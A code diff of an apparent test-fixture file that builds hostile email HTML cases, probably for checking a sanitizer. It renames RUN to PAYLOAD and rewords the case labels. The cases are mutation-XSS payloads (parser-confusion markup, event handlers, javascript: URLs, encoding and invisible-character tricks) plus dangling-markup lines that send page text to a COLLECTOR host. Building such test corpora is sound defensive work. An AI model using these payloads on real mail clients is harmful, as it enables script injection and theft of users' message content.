@@ -1,9 +1,9 @@
-import { COLLECTOR, RUN, mails } from './model.ts';
+import { COLLECTOR, PAYLOAD, createEmails } from './model.ts';
 
-const img = `<img src=x onerror=${RUN}>`;
+const img = `<img src=x onerror=${PAYLOAD}>`;
 
-/** What means one thing to one parser and another thing to the next. */
-export const mutation = mails([
+/** Markup that parsers interpret differently. */
+export const mutation = createEmails([
   ['mx-noscript', 'text without scripts, tags with them', `<noscript><p title="</noscript>${img}"></noscript>`],
   ['mx-noscript-style', 'a comment across noscript', `<noscript><style></noscript>${img}</style>`],
   ['mx-title', 'a title in an attribute', `<title><p title="</title>${img}"></title>`],
@@ -16,7 +16,7 @@ export const mutation = mails([
   [
     'mx-math-table',
     'MathML, a table and a glyph',
-    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${RUN}&gt;">`,
+    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${PAYLOAD}&gt;">`,
   ],
   ['mx-math-style', 'a style of MathML', `<math><mi><mglyph><style><a title="</style>${img}">x</a>`],
   [
@@ -43,7 +43,7 @@ export const mutation = mails([
   [
     'mx-conditional',
     'conditional comments',
-    `<!--[if gte IE 4]><script>${RUN}</script><![endif]--><![if !mso]>${img}<![endif]>`,
+    `<!--[if gte IE 4]><script>${PAYLOAD}</script><![endif]--><![if !mso]>${img}<![endif]>`,
   ],
   ['mx-cdata', 'CDATA in HTML, in SVG', `<svg><![CDATA[><image xlink:href="]]>${img}//"></svg><![CDATA[ ${img} ]]>`],
   [
@@ -64,25 +64,25 @@ export const mutation = mails([
   [
     'mx-doctype-quote',
     'a doctype with signs of HTML',
-    `<!DOCTYPE html PUBLIC '"><script>${RUN}</script>' '--><script>${RUN}</script>'><p>x</p>`,
+    `<!DOCTYPE html PUBLIC '"><script>${PAYLOAD}</script>' '--><script>${PAYLOAD}</script>'><p>x</p>`,
   ],
   [
     'mx-backtick',
     'backticks as quotes',
-    `<p title="\`\`onmouseover=${RUN}">x</p><img alt="\`><script>${RUN}</script>">`,
+    `<p title="\`\`onmouseover=${PAYLOAD}">x</p><img alt="\`><script>${PAYLOAD}</script>">`,
   ],
   [
     'mx-attribute-names',
     'names that can’t be made by hand',
-    `<p "="" <b ='x' @click=${RUN} :href=x [y]=z {a}=b \u0000q=1 é=2>x</p>`,
+    `<p "="" <b ='x' @click=${PAYLOAD} :href=x [y]=z {a}=b \u0000q=1 é=2>x</p>`,
   ],
   ['mx-attribute-open', 'an attribute that does not end', `<p>x</p><a title="${img}`],
   ['mx-attribute-open-single', 'the other quote', `<p>x</p><a href='${COLLECTOR}/`],
-  ['mx-tag-open', 'a tag that does not end', `<p>x</p><img src="data:," onerror=${RUN} `],
-  ['mx-dangling', 'an address that takes what follows', `<img src='${COLLECTOR}/dangling?<p>secret</p>`],
+  ['mx-tag-open', 'a tag that does not end', `<p>x</p><img src="data:," onerror=${PAYLOAD} `],
+  ['mx-dangling', 'a URL that captures the following text', `<img src='${COLLECTOR}/dangling?<p>secret</p>`],
   [
     'mx-dangling-style',
-    'a style that takes what follows',
+    'a style that captures the following text',
     `<style>p{background:url("${COLLECTOR}/dangling?<p>secret</p>`,
   ],
   ['mx-title-open', 'a title that does not end', `<html><head><title>x<body>${img}`],
@@ -90,18 +90,18 @@ export const mutation = mails([
   ['mx-style-open', 'a stylesheet that does not end', `<style>p{} ${img}`],
   [
     'mx-stray-ends',
-    'ends without beginnings',
+    'end tags without start tags',
     `</p></br></html></body></head></style></script></iframe></svg></math>${img}`,
   ],
   [
     'mx-heads',
     'several heads and bodies',
-    `<body a=1><head b=2><html c=3 onclick=${RUN}><body onload=${RUN} a=2></html><body onfocus=${RUN}>${img}`,
+    `<body a=1><head b=2><html c=3 onclick=${PAYLOAD}><body onload=${PAYLOAD} a=2></html><body onfocus=${PAYLOAD}>${img}`,
   ],
   [
     'mx-entities',
     'references that change twice',
-    `<p title="&quot;&gt;&lt;img src=x onerror=${RUN}&gt;">&lt;script&gt;${RUN}&lt;/script&gt;&amp;lt;script&amp;gt;</p>`,
+    `<p title="&quot;&gt;&lt;img src=x onerror=${PAYLOAD}&gt;">&lt;script&gt;${PAYLOAD}&lt;/script&gt;&amp;lt;script&amp;gt;</p>`,
   ],
   [
     'mx-entities-odd',
@@ -111,18 +111,18 @@ export const mutation = mails([
   [
     'mx-nul',
     'NUL everywhere',
-    `<p\0 ti\0tle="a\0b">x\0y</p\0><!--\0--><style>\0p{}</style><im\0g src=x onerror=${RUN}>`,
+    `<p\0 ti\0tle="a\0b">x\0y</p\0><!--\0--><style>\0p{}</style><im\0g src=x onerror=${PAYLOAD}>`,
   ],
   ['mx-surrogates', 'halves of characters', '<p title="\uD800">\uDC00x\uD83D</p>'],
-  ['mx-bidi', 'text that turns round', '<p>\u202Etxet \u2066x\u2069\u200F</p><p dir=rtl><bdo dir=ltr>x</bdo></p>'],
-  ['mx-zero-width', 'text that nobody sees', `<scr\u200Bipt>${RUN}</script><p>\u200B\u200D\uFEFF\u{E0041}</p>`],
-  ['mx-fullwidth', 'signs that look alike', `\uFF1Cscript\uFF1E${RUN}\uFF1C/script\uFF1E\u2039img onerror=x\u203A`],
-  ['mx-utf7', 'another encoding', `+ADw-script+AD4-${RUN}+ADw-/script+AD4-`],
-  ['mx-iso2022', 'escapes of an encoding', `\u001B$B<p title="\u001B(B" onclick=${RUN}>x</p>`],
+  ['mx-bidi', 'bidirectional text', '<p>\u202Etxet \u2066x\u2069\u200F</p><p dir=rtl><bdo dir=ltr>x</bdo></p>'],
+  ['mx-zero-width', 'invisible text', `<scr\u200Bipt>${PAYLOAD}</script><p>\u200B\u200D\uFEFF\u{E0041}</p>`],
+  ['mx-fullwidth', 'lookalike characters', `\uFF1Cscript\uFF1E${PAYLOAD}\uFF1C/script\uFF1E\u2039img onerror=x\u203A`],
+  ['mx-utf7', 'another encoding', `+ADw-script+AD4-${PAYLOAD}+ADw-/script+AD4-`],
+  ['mx-iso2022', 'escapes of an encoding', `\u001B$B<p title="\u001B(B" onclick=${PAYLOAD}>x</p>`],
   [
     'mx-namespace',
     'names of XML',
-    `<x:script xmlns:x="http://www.w3.org/1999/xhtml">${RUN}</x:script><svg:script>${RUN}</svg:script><html:img src=x onerror=${RUN}>`,
+    `<x:script xmlns:x="http://www.w3.org/1999/xhtml">${PAYLOAD}</x:script><svg:script>${PAYLOAD}</svg:script><html:img src=x onerror=${PAYLOAD}>`,
   ],
   [
     'mx-foreign-break',
@@ -132,13 +132,13 @@ export const mutation = mails([
   [
     'mx-adoption',
     'misnested formatting',
-    `<b><p><i></b>${img}</i></p><a><div><a href="javascript:${RUN}">x</a></div></a>`,
+    `<b><p><i></b>${img}</i></p><a><div><a href="javascript:${PAYLOAD}">x</a></div></a>`,
   ],
   ['mx-nobr', 'elements opened anew', `<nobr><nobr><b><table><nobr>${img}</table><font color=red><p><font size=9>`],
   [
     'mx-proto',
     'names of the language',
-    `<p __proto__=x constructor=y toString=z id=__proto__ class=constructor>x</p><__proto__><constructor onclick=${RUN}><hasOwnProperty>`,
+    `<p __proto__=x constructor=y toString=z id=__proto__ class=constructor>x</p><__proto__><constructor onclick=${PAYLOAD}><hasOwnProperty>`,
   ],
   [
     'mx-mail-tags',
@@ -148,7 +148,7 @@ export const mutation = mails([
   [
     'mx-is',
     'a line end in a name',
-    `<img src=x\u2028onerror=${RUN}><img src=x\u00A0onerror=${RUN}><img src=x\u3000onerror=${RUN}>`,
+    `<img src=x\u2028onerror=${PAYLOAD}><img src=x\u00A0onerror=${PAYLOAD}><img src=x\u3000onerror=${PAYLOAD}>`,
   ],
   ['mx-plain', 'no markup at all', 'javascript:self.ran=1 <<<>>> && ]]> --> */ <!'],
 ]);
